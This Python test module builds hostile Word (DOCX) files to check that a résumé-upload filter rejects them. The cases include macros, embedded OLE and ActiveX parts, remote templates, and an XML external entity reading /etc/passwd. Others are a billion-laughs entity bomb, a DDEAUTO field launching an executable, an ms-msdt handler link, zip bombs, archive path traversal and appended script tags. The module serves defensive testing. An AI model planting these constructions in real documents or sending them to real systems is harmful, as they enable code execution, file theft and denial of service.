"""DOCX files that act, carry, reach out or exhaust: (name, builder, the code with which it is refused)."""

import io
import struct
import warnings
import zipfile
import zlib

from tests.applications.resume_files import words
from tests.applications.resume_files.hostile_pdfs import Case
from tests.applications.resume_files.pdfs import pdf
from tests.applications.resume_files.words import docx, pack, paragraph, parts

DRAWING_TYPE = '<!DOCTYPE svg PUBLIC "" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd"'
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
ENTITY = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + step)} "{f"&{chr(97 + step)};" * 10}">' for step in range(9)
)
BODY = f"<w:document {words.W}><w:body>{paragraph('x')}</w:body></w:document>"
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"


def document(text: str | bytes) -> bytes:
    return pack({**parts(), "word/document.xml": text})


def pointing(kind: str, target: str, outside: bool = True) -> bytes:
    return docx(None, (kind, target, outside))


def settings_template() -> bytes:
    rows = words.pointers(("attachedTemplate", "https://example.org/a.dotm", True))
    return docx(extra={"word/settings.xml": f"<w:settings {words.W}/>", "word/_rels/settings.xml.rels": rows})


def field(*instructions: str) -> bytes:
    runs = "".join(f"<w:r><w:instrText>{text}</w:instrText></w:r>" for text in instructions)
    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    return docx(f"<w:p>{mark % 'begin'}{runs}{mark % 'end'}</w:p>")


def field_named_by_field() -> bytes:
    mark = '<w:r><w:fldChar w:fldCharType="%s"/></w:r>'
    inner = f"{mark % 'begin'}<w:r><w:instrText>QUOTE 68 68 69</w:instrText></w:r>{mark % 'end'}"
    return docx(f"<w:p>{mark % 'begin'}{inner}<w:r><w:instrText> a b</w:instrText></w:r>{mark % 'end'}</w:p>")


def renamed(old: bytes, new: bytes) -> bytes:
    """An entry under another name of the same length, in both places."""
    assert len(old) == len(new)
    return docx(extra={old.decode(): b"<a/>"}).replace(old, new)


def doubled() -> bytes:
    file = io.BytesIO()
    with warnings.catch_warnings(), zipfile.ZipFile(file, "w") as archive:
        warnings.simplefilter("ignore")
        for name, part in [*parts().items(), ("word/document.xml", BODY)]:
            archive.writestr(name, part)
    return file.getvalue()


def directory(data: bytes, position: int, change: bytes) -> bytes:
    """Of the last entry in the directory at the end."""
    start = data.rindex(b"PK\x01\x02") + position
    return data[:start] + change + data[start + len(change) :]


def lying_size() -> bytes:
    part = b"<a>" + b" " * 900_000 + b"</a>"
    return docx(extra={"word/a.xml": part}).replace(struct.pack("<L", len(part)), struct.pack("<L", 7))


def one_name_here_another_there() -> bytes:
    data = docx(extra={"word/aaaa.xml": "<a/>"})
    return data[::-1].replace(b"word/aaaa.xml"[::-1], b"word/bbbb.xml"[::-1], 1)[::-1]


def overlapping() -> bytes:
    """Two entries of the directory share one body."""
    data = docx(extra={"word/aaaa.xml": "<a/>"})
    start, end = data.rindex(b"PK\x01\x02"), data.rindex(b"PK\x05\x06")
    entry = data[start:end]
    tail = bytearray(data[end:])
    count, size = struct.unpack_from("<HL", tail, 10)
    struct.pack_into("<HHL", tail, 8, count + 1, count + 1, size + len(entry))
    return data[:end] + entry.replace(b"aaaa", b"bbbb") + bytes(tail)


def between_entries() -> bytes:
    data = docx()
    at = data.index(b"PK\x03\x04", 4)
    return data[:at] + b"<script>alert(1)</script>" + data[at:]


def encrypted_entry() -> bytes:
    data = docx()
    start = data.index(b"PK\x01\x02") + 8
    return data[:start] + b"\x01" + data[start + 1 :]


def bomb(size: int, name: str = "word/media/a.png") -> bytes:
    return docx(extra={name: b"\0" * size})


def bomb_of_many() -> bytes:
    noise = zlib.compress(b"".join(struct.pack("<L", number * 2654435761 % 2**32) for number in range(30_000)), 1)
    return docx(extra={f"word/media/{number}.png": (noise * 20)[:950_000] + b"\0" * 98_000 for number in range(4)} | {
        f"word/media/x{number}.png": b"\0" * 1_000_000 for number in range(80)
    })  # fmt: skip


def nested() -> bytes:
    return docx(extra={"word/embeddings/a.zip": bomb(20_000_000)})


def drawing_with_entities() -> bytes:
    return docx(extra={"word/media/a.svg": f"{DRAWING_TYPE} [<!ENTITY a 'b'>]><svg>&a;</svg>"})


def in_ole(stream: str) -> bytes:
    return OLE + b"\0" * 504 + stream.encode("utf-16-le") + b"\0" * 2000


ACTING: tuple[Case, ...] = (
    ("macros by type", lambda: docx(main=MACROS), "macros"),
    ("macros by part", lambda: docx(extra={"word/vbaProject.bin": OLE}), "macros"),
    ("macros by pointer", lambda: pointing("http://schemas.microsoft.com/office/2006/relationships/vbaProject", "a.xml", False), "macros"),
    ("macros under another name", lambda: docx(extra={"word/media/a.png": OLE + b"Attribut"}), "embedded"),
    ("OLE object", lambda: docx(extra={"word/embeddings/oleObject1.bin": OLE}), "embedded"),
    ("OLE element", lambda: docx("<w:p><w:r><w:object><o:OLEObject xmlns:o='o' Type='Link'/></w:object></w:r></w:p>"), "embedded"),
    ("embedded workbook", lambda: docx(extra={"word/embeddings/a.xlsx": docx()}), "embedded"),
    ("program as a picture", lambda: docx(extra={"word/media/a.png": b"MZ\x90\0"}), "embedded"),
    ("web page as a part", lambda: docx(None, ("aFChunk", "a.html", False), extra={"word/a.html": "<p>"}), "embedded"),
    ("part of another file", lambda: docx("<w:altChunk r:id='r0'/>"), "embedded"),
    ("ActiveX part", lambda: docx(extra={"word/activeX/activeX1.xml": "<a/>"}), "activex"),
    ("ActiveX element", lambda: docx("<w:p><w:r><w:control r:id='r0'/></w:r></w:p>"), "activex"),
    ("remote template", settings_template, "remote"),
    ("template on a share", lambda: pointing("attachedTemplate", "file://///host/share/a.dotm"), "remote"),
    ("template on a share, escaped", lambda: pointing("attachedTemplate", "file:///%5C%5Chost/a.dotm"), "remote"),
    ("template on a mounted network", lambda: pointing("attachedTemplate", "file:///net/host/a.dotm"), "remote"),
    ("template beside the document", lambda: pointing("attachedTemplate", "evil.dotm"), "remote"),
    ("drawing with entities", drawing_with_entities, "dtd"),
    ("drawing of another type", lambda: docx(extra={"word/media/a.svg": "<!DOCTYPE svg SYSTEM 'https://a/b'><svg/>"}), "dtd"),
    ("drawing's type above words", lambda: docx(extra={"word/a.xml": f"{DRAWING_TYPE}><svg/>"}), "dtd"),
    ("remote picture", lambda: pointing("image", "https://example.org/a.png"), "remote"),
    ("remote picture without saying so", lambda: pointing("image", "https://example.org/a.png", False), "remote"),
    ("remote picture in a drawing", lambda: docx("<w:p><v:imagedata xmlns:v='v' src='http://a/b.png'/></w:p>"), "remote"),
    ("remote frame", lambda: pointing("frame", "https://example.org/"), "remote"),
    ("remote OLE", lambda: pointing("oleObject", "mhtml:https://example.org/a!x-usc:https://example.org/a"), "embedded"),
    ("out of the package", lambda: pointing("image", "../../../../../etc/passwd", False), "remote"),
    ("link to a file", lambda: pointing("hyperlink", "file:///c:/a.exe"), "link"),
    ("link to a handler", lambda: pointing("hyperlink", "ms-msdt:/id PCWDiagnostic"), "link"),
    ("DDE", lambda: field('DDEAUTO c:\\\\a.exe "/k"'), "fields"),
    ("DDE cut into runs", lambda: field(" D", "D", "E c:\\\\a.exe"), "fields"),
    ("DDE made by another field", field_named_by_field, "fields"),
    ("DDE in short", lambda: docx("<w:p><w:fldSimple w:instr='dde a b'/></w:p>"), "fields"),
    ("picture by a field", lambda: field('INCLUDEPICTURE "https://example.org/a.png"'), "fields"),
    ("drawing with a script", lambda: docx(extra={"word/media/a.svg": "<svg><script>1</script></svg>"}), "script"),
)  # fmt: skip
XML: tuple[Case, ...] = (
    ("external entity", lambda: document(ENTITY + BODY), "dtd"),
    ("billion laughs", lambda: document(LAUGHS + "]>" + BODY), "dtd"),
    (
        "entity in UTF-16",
        lambda: document((ENTITY.replace("?>", ' encoding="utf-16"?>', 1) + BODY).encode("utf-16")),
        "dtd",
    ),
    (
        "entity in UTF-16 without a mark",
        lambda: document((ENTITY.replace("?>", ' encoding="utf-16"?>', 1) + BODY).encode("utf-16-be")),
        "dtd",
    ),
    ("entity in a pointer", lambda: docx(extra={"word/_rels/a.xml.rels": ENTITY + "<Relationships/>"}), "dtd"),
    ("entity in metadata", lambda: docx(extra={"docProps/core.xml": ENTITY + "<a/>"}), "dtd"),
    ("entity in the types", lambda: pack({**parts(), "[Content_Types].xml": ENTITY + "<Types/>"}), "dtd"),
    ("UTF-7", lambda: document('<?xml version="1.0" encoding="utf-7"?>' + BODY), "dtd"),
    ("EBCDIC", lambda: document(f'<?xml version="1.0" encoding="cp037"?>{BODY}'.encode("cp037")), "damaged dtd"),
    ("deep XML", lambda: document(f"<w:document {words.W}>" + "<a>" * 100_000), "too-complex"),
    (
        "many elements",
        lambda: document(f"<w:document {words.W}>" + "<a/>" * 600_000 + "</w:document>"),
        "bomb too-complex",
    ),
    ("no XML", lambda: document("Dear all"), "damaged"),
)
PACKED: tuple[Case, ...] = (
    ("bomb of 100 MB", lambda: bomb(100_000_000), "bomb"),
    ("bomb of 30 MB of XML", lambda: bomb(30_000_000, "word/a.xml"), "bomb"),
    ("bomb of many small ones", bomb_of_many, "bomb"),
    ("bomb in an archive", nested, "embedded"),
    ("size that lies", lying_size, "bomb"),
    ("2,000 entries", lambda: docx(extra={f"word/{number}.xml": "<a/>" for number in range(2000)}), "bomb"),
    ("path upwards", lambda: renamed(b"word/aaaaaaaaaa.xml", b"../../../../aaaa.xml"[1:]), "zip"),
    ("path from the root", lambda: renamed(b"word/aaaaaaaaaa.xml", b"/etc/aaaaaaaaaa.xml"), "zip"),
    ("path of Windows", lambda: renamed(b"word/aaaaaaaaaa.xml", b"..\\..\\aaaaaaaaa.xml"), "zip"),
    ("entry twice", doubled, "zip"),
    ("two names", one_name_here_another_there, "zip"),
    ("overlapping entries", overlapping, "zip"),
    ("between the entries", between_entries, "zip"),
    ("wrong checksum", lambda: directory(docx(), 16, b"\0\0\0\0"), "zip"),
    ("password", encrypted_entry, "encrypted"),
    ("password in the old container", lambda: in_ole("EncryptedPackage"), "encrypted"),
    ("text behind", lambda: docx() + b"<script>alert(1)</script>", "mixed"),
    ("PDF behind", lambda: docx() + pdf(), "mixed"),
    ("cut in half", lambda: docx()[:700], "damaged"),
    ("no document in it", lambda: pack({**parts(), "_rels/.rels": words.pointers()}), "damaged"),
    (
        "workbook",
        lambda: docx(main="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"),
        "other-office",
    ),
    ("no words", lambda: docx(""), "empty"),
)
